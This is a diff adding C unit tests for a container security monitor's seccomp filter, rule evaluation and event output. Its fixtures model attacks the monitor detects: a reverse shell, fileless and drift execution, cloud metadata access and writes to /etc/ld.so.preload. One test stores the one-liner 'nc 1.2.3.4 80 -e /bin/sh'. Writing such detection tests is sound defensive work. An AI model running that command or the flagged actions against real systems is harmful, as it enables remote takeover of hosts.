@@ -1,0 +1,579 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* The monitor's pure parts: filter table, transform, rule evaluation, events. */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "hardrun/cleanup.h"
+#include "hardrun/monitor_int.h"
+
+/* Every conditional entry: notify and allow are disjoint and cover all args. */
+START_TEST(test_table_partition)
+{
+	unsigned n;
+	const struct nf_entry *t = nfilter_table(&n);
+	static const uint64_t vals[] = {
+		0,     1,	2,	 3,	     4,		 5,	     6,	    7,
+		8,     9,	10,	 11,	     15,	 16,	     17,    18,
+		19,    20,	27,	 28,	     29,	 40,	     0x40,  0x41,
+		0x42,  0x43,	0x200,	 0x201,	     0x241,	 04000,	     02000, 06000,
+		04755, 0x80803, 0x20000, 0x10000000, 0x10020000, 0x10000011, ~0ull
+	};
+	const size_t nv = sizeof(vals) / sizeof(vals[0]);
+	for (unsigned i = 0; i < n; i++) {
+		if (t[i].n_notify == 0)
+			continue;
+		for (size_t a = 0; a < nv; a++)
+			for (size_t b = 0; b < nv; b++)
+				for (size_t c = 0; c < nv; c += 7) {
+					uint64_t args[6] = { vals[a], vals[b], vals[c], 0, 0, 0 };
+					unsigned hits = 0;
+					for (unsigned k = 0; k < t[i].n_notify; k++)
+						hits += nfilter_alt_match(&t[i].notify[k], args);
+					for (unsigned k = 0; k < t[i].n_allow; k++)
+						hits += nfilter_alt_match(&t[i].allow[k], args);
+					ck_assert_msg(hits == 1, "%s: args %llx %llx %llx: %u",
+						      t[i].name, (unsigned long long)args[0],
+						      (unsigned long long)args[1],
+						      (unsigned long long)args[2], hits);
+				}
+	}
+}
+END_TEST
+
+START_TEST(test_alt_and)
+{
+	struct nf_alt r;
+	struct nf_alt meq0 = { 1, { { 0, NF_MASKED_EQ, 0x7E020000, 0 } } };
+	struct nf_alt newuser = { 1, { { 0, NF_MASKED_EQ, 0x10020000, 0x10000000 } } };
+	struct nf_alt eq2 = { 1, { { 0, NF_EQ, 2, 0 } } };
+	struct nf_alt ne17 = { 1, { { 0, NF_NE, 17, 0 } } };
+	struct nf_alt ne40 = { 1, { { 0, NF_NE, 40, 0 } } };
+	ck_assert_int_eq(nfilter_alt_and(&meq0, &newuser, &r), 0); /* docker clone: empty */
+	ck_assert_int_eq(nfilter_alt_and(&eq2, &ne17, &r), 1);
+	ck_assert(r.n == 1 && r.c[0].op == NF_EQ && r.c[0].v == 2);
+	ck_assert_int_eq(nfilter_alt_and(&ne40, &ne17, &r), -EOPNOTSUPP);
+	struct nf_alt m1 = { 1, { { 1, NF_MASKED_EQ, 0x3, 1 } } };
+	ck_assert_int_eq(nfilter_alt_and(&ne17, &m1, &r), 1);
+	ck_assert_int_eq(r.n, 2);
+}
+END_TEST
+
+static struct json *_parse(const char *s)
+{
+	struct json *j = NULL;
+	struct err e = { 0 };
+	ck_assert_msg(json_parse(s, strlen(s), &j, &e) == 0, "%s", e.msg);
+	return j;
+}
+
+static unsigned _count(const struct json *sc, const char *name, const char *action)
+{
+	unsigned n = 0;
+	const struct json *sys = json_get(sc, "syscalls");
+	json_foreach (i, sys) {
+		const struct json *names = json_get(sys->items[i], "names");
+		const char *a = json_string(json_get(sys->items[i], "action"));
+		json_foreach (k, names)
+			n += strcmp(json_string(names->items[k]), name) == 0 &&
+			     (!action || strcmp(a, action) == 0);
+	}
+	return n;
+}
+
+START_TEST(test_apply_docker_like)
+{
+	struct err e = { 0 };
+	_cleanup_json_ struct json *sc = _parse(
+		"{\"defaultAction\":\"SCMP_ACT_ERRNO\",\"defaultErrnoRet\":1,\"syscalls\":["
+		"{\"names\":[\"read\",\"execve\",\"socket\",\"openat\"],\"action\":\"SCMP_ACT_"
+		"ALLOW\"},"
+		"{\"names\":[\"clone\"],\"action\":\"SCMP_ACT_ALLOW\",\"args\":[{\"index\":0,"
+		"\"value\":2114060288,\"valueTwo\":0,\"op\":\"SCMP_CMP_MASKED_EQ\"}]}]}");
+	ck_assert_int_eq(nfilter_apply(sc, false, &e), 0);
+	ck_assert_int_eq(_count(sc, "read", "SCMP_ACT_ALLOW"), 1);    /* untouched */
+	ck_assert_int_eq(_count(sc, "execve", "SCMP_ACT_NOTIFY"), 1); /* unconditional */
+	ck_assert_int_eq(_count(sc, "execve", "SCMP_ACT_ALLOW"), 0);
+	ck_assert_int_eq(_count(sc, "socket", "SCMP_ACT_NOTIFY"), 3);
+	ck_assert_int_eq(_count(sc, "socket", "SCMP_ACT_ALLOW"), 6);
+	ck_assert_int_eq(_count(sc, "openat", "SCMP_ACT_NOTIFY"), 4);
+	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_NOTIFY"), 0); /* denied already */
+	ck_assert_int_eq(_count(sc, "clone", "SCMP_ACT_ALLOW"), 1);
+	ck_assert_int_eq(_count(sc, "mount", NULL), 0); /* denied: stays denied */
+	ck_assert_int_eq(_count(sc, "write", NULL), 0);
+	/* audit: the default becomes NOTIFY, deviations are recognised */
+	ck_assert_int_eq(nfilter_apply(sc, true, &e), 0);
+	ck_assert_str_eq(json_string(json_get(sc, "defaultAction")), "SCMP_ACT_NOTIFY");
+	uint64_t args[6] = { 0 };
+	ck_assert(nfilter_is_deviation(sc, "mount", args));
+	ck_assert(!nfilter_is_deviation(sc, "read", args));
+	args[1] = 3; /* socket(AF_INET, SOCK_RAW): a monitor rule, not a deviation */
+	args[0] = 2;
+	ck_assert(!nfilter_is_deviation(sc, "socket", args));
+}
+END_TEST
+
+struct fixture {
+	const char *name;
+	uint64_t args[6];
+	int session;
+	bool started;
+	const char *comm;
+	const char *path, *argv0, *argv1, *fd_link;
+	bool fd_inet, known;
+	int family;
+	uint8_t addr[4];
+	uint16_t port;
+	int expect; /* rule id or -1 */
+};
+
+static const struct fixture _fixtures[] = {
+	{ "execve",
+	  { 0 },
+	  0,
+	  false,
+	  "runc:[2:INIT]",
+	  "/bin/sh",
+	  "sh",
+	  "-c",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  -1 }, /* the entrypoint */
+	{ "execve",
+	  { 0 },
+	  1,
+	  false,
+	  "runc:[2:INIT]",
+	  "/bin/sh",
+	  "sh",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_TERMINAL_SHELL },
+	{ "execve",
+	  { 0 },
+	  0,
+	  true,
+	  "python3",
+	  "/bin/bash",
+	  "bash",
+	  "-i",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_TERMINAL_SHELL },
+	{ "execve", { 0 }, 0, true, "sh", "/bin/ls", "ls", "", "", false, true, 0, { 0 }, 0, -1 },
+	{ "execve",
+	  { 0 },
+	  0,
+	  true,
+	  "sh",
+	  "/tmp/evil",
+	  "evil",
+	  "",
+	  "",
+	  false,
+	  false,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_DRIFT_EXEC },
+	{ "execve",
+	  { 0 },
+	  0,
+	  true,
+	  "sh",
+	  "/dev/shm/x",
+	  "x",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_FILELESS_EXEC },
+	{ "execveat",
+	  { 3, 0, 0, 0, 0x1000 },
+	  0,
+	  true,
+	  "a",
+	  "",
+	  "",
+	  "",
+	  "/memfd:x (deleted)",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_FILELESS_EXEC },
+	{ "dup2",
+	  { 3, 0 },
+	  0,
+	  true,
+	  "nc",
+	  "",
+	  "",
+	  "",
+	  "socket:[1]",
+	  true,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_REVERSE_SHELL },
+	{ "dup2", { 3, 1 }, 0, true, "sh", "", "", "", "/tmp/out", false, true, 0, { 0 }, 0, -1 },
+	{ "socket",
+	  { 17, 3 },
+	  0,
+	  true,
+	  "a",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_RAW_SOCKET },
+	{ "socket", { 2, 1 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
+	{ "connect",
+	  { 3, 0, 16 },
+	  0,
+	  true,
+	  "curl",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  2,
+	  { 169, 254, 169, 254 },
+	  80,
+	  RULE_METADATA_CONNECT },
+	{ "connect",
+	  { 3, 0, 16 },
+	  0,
+	  true,
+	  "curl",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  2,
+	  { 10, 96, 0, 1 },
+	  443,
+	  RULE_METADATA_CONNECT },
+	{ "connect",
+	  { 3, 0, 16 },
+	  0,
+	  true,
+	  "curl",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  2,
+	  { 10, 96, 0, 1 },
+	  80,
+	  -1 },
+	{ "ptrace",
+	  { 16, 5 },
+	  0,
+	  true,
+	  "gdb",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_PTRACE },
+	{ "ptrace", { 0 }, 0, true, "strace", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
+	{ "finit_module",
+	  { 3 },
+	  0,
+	  true,
+	  "a",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_KERNEL_MODULE },
+	{ "bpf", { 5 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, RULE_BPF },
+	{ "bpf", { 0 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
+	{ "perf_event_open",
+	  { 0 },
+	  0,
+	  true,
+	  "a",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_PERF_EVENT },
+	{ "mount", { 0 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, RULE_MOUNT },
+	{ "unshare",
+	  { 0x10000000 },
+	  0,
+	  true,
+	  "a",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_NAMESPACE_ESCAPE },
+	{ "clone", { 0x11 }, 0, true, "a", "", "", "", "", false, true, 0, { 0 }, 0, -1 },
+	{ "fchmodat",
+	  { 0, 0, 04755 },
+	  0,
+	  true,
+	  "a",
+	  "/tmp/x",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_SETUID_BIT },
+	{ "openat",
+	  { 0, 0, 01101 },
+	  0,
+	  true,
+	  "a",
+	  "/etc/ld.so.preload",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_SENSITIVE_WRITE },
+	{ "openat",
+	  { 0, 0, 0101 },
+	  0,
+	  true,
+	  "a",
+	  "/tmp/log",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  -1 },
+	{ "openat",
+	  { 0, 0, 0 },
+	  0,
+	  true,
+	  "a",
+	  "/etc/passwd",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  -1 },
+	{ "io_uring_setup",
+	  { 4 },
+	  0,
+	  true,
+	  "a",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  RULE_IO_URING },
+	{ "mount",
+	  { 0 },
+	  0,
+	  false,
+	  "runc:[2:INIT]",
+	  "",
+	  "",
+	  "",
+	  "",
+	  false,
+	  true,
+	  0,
+	  { 0 },
+	  0,
+	  -1 }, /* before the first execve: the runtime's own */
+};
+
+START_TEST(test_eval_fixtures)
+{
+	struct mon_rules r;
+	eval_rules_default(&r);
+	r.drift = true;
+	strcpy(r.k8s_host, "10.96.0.1");
+	r.k8s_port = 443;
+	for (size_t i = 0; i < sizeof(_fixtures) / sizeof(_fixtures[0]); i++) {
+		const struct fixture *f = &_fixtures[i];
+		struct mon_call c = {
+			.pid = 10, .name = f->name, .session = f->session, .started = f->started
+		};
+		struct mon_proc p = { .pid = 10, .ppid = 1 };
+		struct mon_evidence ev = { .fd_inet = f->fd_inet,
+					   .known_binary = f->known,
+					   .family = f->family,
+					   .port = f->port };
+		struct mon_verdict v;
+		memcpy(c.args, f->args, sizeof(c.args));
+		strcpy(p.comm, f->comm);
+		strcpy(ev.path, f->path);
+		strcpy(ev.argv0, f->argv0);
+		strcpy(ev.argv1, f->argv1);
+		strcpy(ev.fd_link, f->fd_link);
+		memcpy(ev.addr, f->addr, 4);
+		eval_call(&c, &p, &ev, &r, &v);
+		ck_assert_msg(v.rule == f->expect, "fixture %zu (%s): rule %d, want %d", i, f->name,
+			      v.rule, f->expect);
+		if (v.rule >= 0)
+			ck_assert_int_eq(v.action, rules_table[v.rule].default_action);
+	}
+}
+END_TEST
+
+START_TEST(test_rules_from_profile)
+{
+	struct mon_rules r;
+	struct err e = { 0 };
+	_cleanup_json_ struct json *ok = _parse("{\"rules\":{\"ptrace\":\"kill\",\"io_uring\":"
+						"\"off\"},\"knownBinaries\":[\"/a\"]}");
+	_cleanup_json_ struct json *bad = _parse("{\"rules\":{\"nope\":\"alert\"}}");
+	_cleanup_json_ struct json *bad2 = _parse("{\"rules\":{\"ptrace\":\"maybe\"}}");
+	ck_assert_int_eq(eval_rules_from_profile(ok, &r, &e), 0);
+	ck_assert_int_eq(r.action[RULE_PTRACE], ACTION_KILL);
+	ck_assert_int_eq(r.action[RULE_IO_URING], ACTION_OFF);
+	ck_assert(r.drift);
+	ck_assert_int_lt(eval_rules_from_profile(bad, &r, &e), 0);
+	ck_assert_int_lt(eval_rules_from_profile(bad2, &r, &e), 0);
+	/* audit downgrades deny/kill to alert; off stays off */
+	struct mon_call c = { .name = "bpf", .args = { 5 }, .started = true };
+	struct mon_proc p = { 0 };
+	struct mon_evidence ev = { 0 };
+	struct mon_verdict v;
+	eval_rules_default(&r);
+	r.audit = true;
+	eval_call(&c, &p, &ev, &r, &v);
+	ck_assert_int_eq(v.action, ACTION_ALERT);
+}
+END_TEST
+
+START_TEST(test_event_golden)
+{
+	struct event_ctx x = { "c0ffee", "web", "prod", "web-1", "nginx:1", "node1" };
+	struct timespec t = { 1700000000, 5 };
+	struct mon_call c = { .name = "dup2", .session = 0 };
+	struct mon_proc p = { .pid = 42, .ppid = 7, .uid = 0 };
+	struct mon_verdict v = { .rule = RULE_REVERSE_SHELL, .action = ACTION_DENY };
+	strcpy(p.comm, "nc");
+	strcpy(p.exe, "/bin/busybox");
+	strcpy(p.cmdline, "nc 1.2.3.4 80 -e /bin/sh");
+	strcpy(p.pcomm, "sh");
+	strcpy(p.cwd, "/");
+	strcpy(v.detail, "oldfd=3(socket:[9]) newfd=0");
+	_cleanup_json_ struct json *o = event_build(&x, &t, &c, &p, &v);
+	_cleanup_free_ char *got = NULL, *want = NULL, *path = NULL;
+	size_t len;
+	ck_assert(o);
+	ck_assert_int_eq(json_dump(o, false, &got, &len, NULL), 0);
+	ck_assert(asprintf(&path, "%s/monitor/event.golden.json", getenv("HARDRUN_TEST_DATA")) > 0);
+	FILE *f = fopen(path, "re");
+	ck_assert_msg(f, "%s", path);
+	want = calloc(1, 8192);
+	ck_assert(fread(want, 1, 8191, f) > 0);
+	fclose(f);
+	want[strcspn(want, "\n")] = '\0';
+	ck_assert_str_eq(got, want);
+	ck_assert(event_line_matches(got, len, "c0ffee", "reverse_shell"));
+	ck_assert(!event_line_matches(got, len, "other", NULL));
+	ck_assert(!event_line_matches(got, len, NULL, "ptrace"));
+}
+END_TEST
+
+START_TEST(test_cgroup_path)
+{
+	char buf[4096];
+	const char *v1 = "9:name=systemd:/xc\n8:pids:/kube/pod1/abc\n6:freezer:/kube/pod1/abc\n"
+			 "1:cpu,cpuacct:/kube\n0::/xc\n";
+	/* the pids hierarchy may not exist in the test environment: only parse */
+	int r = cgkill_procs_path(1, v1, buf, sizeof(buf));
+	if (r == 0)
+		ck_assert(strstr(buf, "/kube/pod1/abc/cgroup.procs") || strstr(buf, "/xc/"));
+	ck_assert_int_eq(cgkill_procs_path(1, "8:pids:/\n0::/\n", buf, sizeof(buf)), -ENOENT);
+}
+END_TEST
+
+int main(void)
+{
+	Suite *s = suite_create("monitor");
+	TCase *tc = tcase_create("core");
+	tcase_add_test(tc, test_table_partition);
+	tcase_add_test(tc, test_alt_and);
+	tcase_add_test(tc, test_apply_docker_like);
+	tcase_add_test(tc, test_eval_fixtures);
+	tcase_add_test(tc, test_rules_from_profile);
+	tcase_add_test(tc, test_event_golden);
+	tcase_add_test(tc, test_cgroup_path);
+	suite_add_tcase(s, tc);
+	SRunner *sr = srunner_create(s);
+	srunner_run_all(sr, CK_NORMAL);
+	int failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed ? 1 : 0;
+}
